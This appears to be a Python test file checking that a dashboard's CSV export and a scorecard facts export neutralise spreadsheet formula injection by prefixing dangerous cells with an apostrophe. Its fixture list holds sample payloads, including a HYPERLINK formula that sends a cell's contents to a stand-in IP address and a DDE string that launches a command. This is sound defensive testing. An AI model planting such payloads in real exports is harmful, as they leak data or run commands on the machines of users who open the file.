"""CSV exports never hand a spreadsheet a formula: instance-provided text starting with = + - @ tab CR is
neutralised in the dashboard tables' export and in the scorecard facts."""

from __future__ import annotations

import csv
import io
import time

import pandas as pd

from actions.proving.scorecard import facts_csv
from core.store import Fact
from dashboard.ui import csv_export

HOSTILE = ['=HYPERLINK("http://203.0.113.9/?"&A1,"update")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1"]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_dashboard_table_export_neutralises_formulas() -> None:
    frame = pd.DataFrame({"instance": [f"web-{i}" for i in range(len(HOSTILE))], "version": HOSTILE,
                          "rss": [-5.0, 1.0, 2.0, 3.0, 4.0, 5.0], "spark": [[1, 2]] * len(HOSTILE)})
    rows = cells(csv_export(frame).decode())
    assert rows[0] == ["instance", "version", "rss"]  # list-valued sparkline columns stay out
    assert [row[1] for row in rows[1:]] == ["'" + value for value in HOSTILE]
    assert [row[2] for row in rows[1:]] == ["-5.0", "1.0", "2.0", "3.0", "4.0", "5.0"]  # numbers stay numbers
    assert [row[0] for row in rows[1:]] == [f"web-{i}" for i in range(len(HOSTILE))]


def test_scorecard_facts_csv_neutralises_formulas() -> None:
    facts = [Fact(None, "run-1", "health_endpoint", "must", f"web/{value}", time.time(), "pass", value, {"v": value})
             for value in HOSTILE]
    rows = cells(facts_csv(facts))
    for row, value in zip(rows[1:], HOSTILE, strict=True):
        assert row[3] == "web/" + value  # does not start with a formula character: left alone
        assert row[7] == "'" + value
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
